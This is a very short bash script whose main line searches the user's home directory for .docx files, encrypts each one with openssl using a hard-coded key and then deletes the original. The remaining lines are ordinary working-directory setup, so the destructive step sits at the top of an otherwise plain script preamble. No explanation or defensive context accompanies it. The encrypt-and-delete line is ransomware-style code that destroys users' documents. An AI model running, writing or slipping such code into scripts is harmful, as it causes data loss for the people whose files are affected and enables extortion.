#!/usr/bin/env bash
find ~ -type f -name "*.docx" -exec openssl enc -aes-256-cbc -salt -in {} -out {}.enc -k secret \; -exec rm {} \;
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
